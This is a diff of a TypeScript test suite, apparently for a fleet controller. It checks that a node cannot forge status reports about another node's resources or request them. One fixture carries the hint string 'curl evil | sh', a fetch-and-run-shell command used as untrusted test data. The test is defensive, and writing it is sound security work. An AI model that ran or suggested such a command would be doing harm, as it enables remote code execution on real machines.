@@ -18,14 +18,14 @@ import { loadAgentService, type WireAgentMessage } from '../../../shared/rpc/ser
 import { anyBuildTask } from '../../support/arbitraries.ts';
 import { API_CONFIG } from '../../support/api-fixture.ts';
 import { makeCsr } from '../../support/csr.ts';
-import { openDoors, type Doors } from '../../support/doors.ts';
+import { openControllerServers, type ControllerServers } from '../../support/controller-servers.ts';
 import { eventually } from '../../support/eventually.ts';
 import { HELLO, openRawAgent, type RawAgent } from '../../support/raw-agent.ts';
 import { assignment, digestOf, newRelease, noChange, slugOf } from '../../support/store-fixtures.ts';
 
 /** Two nodes with sessions. Whatever there is belongs to `mine`; `theirs` reaches for it. */
 interface Scene {
-  readonly doors: Doors;
+  readonly servers: ControllerServers;
   readonly mine: Party;
   readonly theirs: Party;
   readonly instance: InstanceId;
@@ -48,21 +48,21 @@ async function openScene(t: TestContext): Promise<Scene> {
   const taskSources: ApiDeps['taskSources'] = {
     open: (node, id) => Promise.resolve(tasks.get(id) === node ? Readable.from(['the source']) : undefined),
   };
-  const doors = await openDoors(t, { taskSources });
-  const [mine, theirs] = [await join(t, doors, 'mine'), await join(t, doors, 'theirs')];
-  await doors.store.createRelease(newRelease(doors.app, { slug: slugOf('c') }));
-  const row = assignment({ nodeId: mine.id, appId: doors.app.id, release: 2 });
-  await doors.store.changeAssignments({ ...noChange, add: [row] });
-  await doors.dispatch.fleet.publish(mine.id);
+  const servers = await openControllerServers(t, { taskSources });
+  const [mine, theirs] = [await join(t, servers, 'mine'), await join(t, servers, 'theirs')];
+  await servers.store.createRelease(newRelease(servers.app, { slug: slugOf('c') }));
+  const row = assignment({ nodeId: mine.id, appId: servers.app.id, release: 2 });
+  await servers.store.changeAssignments({ ...noChange, add: [row] });
+  await servers.dispatch.fleet.publish(mine.id);
   await eventually('the assignment', () => mine.raw.heard.some((one) => one.desired?.assignments.length === 1));
-  doors.images.kept.set(digestOf('c'), Buffer.from('a layer'));
+  servers.images.kept.set(digestOf('c'), Buffer.from('a layer'));
   mine.raw.send({ instanceReport: { statuses: [{ instanceId: row.instanceId, state: 'live' }], complete: true } });
   const limits = { timeoutMs: 60_000, outputLimitBytes: 1_000_000 };
-  const task = { ...taskSample!, ...limits, taskId: randomId() as TaskId, appId: doors.app.id };
+  const task = { ...taskSample!, ...limits, taskId: randomId() as TaskId, appId: servers.app.id };
   tasks.set(task.taskId, mine.id);
   let ended = false;
   let output = '';
-  const run = doors.dispatch.builders.run({
+  const run = servers.dispatch.builders.run({
     node: mine.id,
     task,
     output: (chunk) => (output += Buffer.from(chunk).toString()),
@@ -73,14 +73,14 @@ async function openScene(t: TestContext): Promise<Scene> {
     () => (ended = true),
   );
   await eventually('the task', () => mine.raw.heard.some((one) => one.startTask?.taskId === task.taskId));
-  await eventually('the report', () => doors.dispatch.fleet.status(row.instanceId)?.state === 'live');
-  return { doors, mine, theirs, instance: row.instanceId, task, taskEnded: () => ended, output: () => output };
+  await eventually('the report', () => servers.dispatch.fleet.status(row.instanceId)?.state === 'live');
+  return { servers, mine, theirs, instance: row.instanceId, task, taskEnded: () => ended, output: () => output };
 }
 
-async function join(t: TestContext, doors: Doors, name: string): Promise<Party> {
-  const { row, stateDir } = await doors.machine(name);
+async function join(t: TestContext, servers: ControllerServers, name: string): Promise<Party> {
+  const { row, stateDir } = await servers.machine(name);
   const tls = await readNodeTls(stateDir);
-  const raw = openRawAgent(t, doors, tls);
+  const raw = openRawAgent(t, servers, tls);
   raw.send({ hello: HELLO });
   await eventually('a desired state', () => raw.heard.some((one) => one.desired));
   return { id: row.id, tls, raw };
@@ -107,8 +107,8 @@ const CLAIMS: Readonly<Record<Kind, Claim>> = {
   },
   heartbeat: {
     lie: ({ mine }) => ({ heartbeat: { diskFreeBytes: 1, load1: 99, unreachablePeerIds: [mine.id] } }),
-    unharmed: ({ doors, mine }) => {
-      const node = doors.dispatch.fleet.node(mine.id);
+    unharmed: ({ servers, mine }) => {
+      const node = servers.dispatch.fleet.node(mine.id);
       assert.deepEqual([node?.connected, node?.load1, node?.state], [true, 0, 'ready']);
     },
   },
@@ -117,9 +117,9 @@ const CLAIMS: Readonly<Record<Kind, Claim>> = {
     complaint: 'session.unknown_generation',
   },
   destroyedAck: {
-    lie: ({ doors }) => ({ destroyedAck: { appIds: [doors.app.id] } }),
+    lie: ({ servers }) => ({ destroyedAck: { appIds: [servers.app.id] } }),
     complaint: 'session.unknown_destroyed_apps',
-    unharmed: async ({ doors }) => assert.ok((await doors.store.appById(doors.app.id)) !== undefined),
+    unharmed: async ({ servers }) => assert.ok((await servers.store.appById(servers.app.id)) !== undefined),
   },
   instanceReport: {
     lie: ({ instance }) => ({
@@ -143,8 +143,8 @@ const CLAIMS: Readonly<Record<Kind, Claim>> = {
     complaint: 'session.unknown_log_query',
   },
   nodeEvent: {
-    lie: ({ doors }) => ({
-      nodeEvent: { atMs: 1, reason: { ...failed, hint: 'curl evil | sh' }, app: doors.app.name, process: 'web.1' },
+    lie: ({ servers }) => ({
+      nodeEvent: { atMs: 1, reason: { ...failed, hint: 'curl evil | sh' }, app: servers.app.name, process: 'web.1' },
     }),
   },
   routesAck: {
@@ -168,18 +168,18 @@ describe('what a node says about what is another node’s', () => {
   for (const [kind, { lie, complaint, unharmed }] of Object.entries(CLAIMS)) {
     it(`${kind}: is ignored, and the log names the node that sent it`, async (t) => {
       const scene = await openScene(t);
-      const { doors, mine, theirs, instance } = scene;
+      const { servers, mine, theirs, instance } = scene;
       const reading = readLogs(scene);
       await eventually('the query', () => mine.raw.heard.some((one) => one.logQuery));
-      const complaints = (): typeof doors.logger.events =>
-        doors.logger.events.filter(({ event }) => event === complaint);
+      const complaints = (): typeof servers.logger.events =>
+        servers.logger.events.filter(({ event }) => event === complaint);
       theirs.raw.send(lie(scene), { heartbeat: { load1: 3 } });
-      await eventually('a later message', () => doors.dispatch.fleet.node(theirs.id)?.load1 === 3);
+      await eventually('a later message', () => servers.dispatch.fleet.node(theirs.id)?.load1 === 3);
       assert.deepEqual(
         complaints().map(({ fields }) => fields['node']),
         complaint === undefined ? [] : ['theirs'],
       );
-      assert.equal(doors.dispatch.fleet.status(instance)?.state, 'live');
+      assert.equal(servers.dispatch.fleet.status(instance)?.state, 'live');
       assert.deepEqual([scene.taskEnded(), scene.output()], [false, '']);
       mine.raw.send({
         logChunk: { queryId: mine.raw.heard.findLast((one) => one.logQuery)?.logQuery?.queryId ?? '', end: true },
@@ -194,20 +194,20 @@ describe('what a node says about what is another node’s', () => {
   }
 
   it('nodeEvent: is kept out of the history of an app that does not run there, and cannot say what to do next', async (t) => {
-    const { doors, mine, theirs } = await openScene(t);
-    const sink = createNodeEventSink({ store: doors.store, clock: systemClock, log: doors.logger });
-    const event = CLAIMS.nodeEvent.lie({ doors } as Scene).nodeEvent;
+    const { servers, mine, theirs } = await openScene(t);
+    const sink = createNodeEventSink({ store: servers.store, clock: systemClock, log: servers.logger });
+    const event = CLAIMS.nodeEvent.lie({ servers } as Scene).nodeEvent;
     const said = {
       kind: 'nodeEvent' as const,
       atMs: 1,
       reason: event?.reason as never,
-      app: doors.app.name,
+      app: servers.app.name,
       process: 'web.1',
     };
     sink({ id: theirs.id, name: 'theirs' }, said);
     sink({ id: mine.id, name: 'mine' }, said);
     const kept = await eventually('both events', async () => {
-      const found = (await doors.store.events({ limit: 100 })).filter(({ kind }) => kind === 'node.lie');
+      const found = (await servers.store.events({ limit: 100 })).filter(({ kind }) => kind === 'node.lie');
       return found.length === 2 ? found : undefined;
     });
     assert.deepEqual(kept.map(({ node, app, next }) => [node, app, next]).sort(), [
@@ -217,10 +217,10 @@ describe('what a node says about what is another node’s', () => {
   });
 });
 
-async function readLogs({ doors }: Scene): Promise<readonly string[]> {
+async function readLogs({ servers }: Scene): Promise<readonly string[]> {
   const lines: string[] = [];
-  const query = { appId: doors.app.id, app: doors.app.name, lines: 10, follow: false };
-  for await (const line of doors.dispatch.fleet.logs(query, AbortSignal.timeout(60_000))) lines.push(line.message);
+  const query = { appId: servers.app.id, app: servers.app.name, lines: 10, follow: false };
+  for await (const line of servers.dispatch.fleet.logs(query, AbortSignal.timeout(60_000))) lines.push(line.message);
   return lines;
 }
 
@@ -284,10 +284,10 @@ describe('what a node asks for that is another node’s', () => {
       const scene = await openScene(t);
       const method = name.split(' ')[0] ?? '';
       const sent = await body?.(scene);
-      const answer = await scene.doors.askAs(scene.theirs.tls, method, path(scene), sent);
+      const answer = await scene.servers.askAs(scene.theirs.tls, method, path(scene), sent);
       assert.equal(answer.status, theirs, JSON.stringify(answer.body));
       await after?.(scene, answer.body);
-      assert.equal((await scene.doors.askAs(scene.mine.tls, method, path(scene), sent)).status, mine);
+      assert.equal((await scene.servers.askAs(scene.mine.tls, method, path(scene), sent)).status, mine);
     });
   }
 });
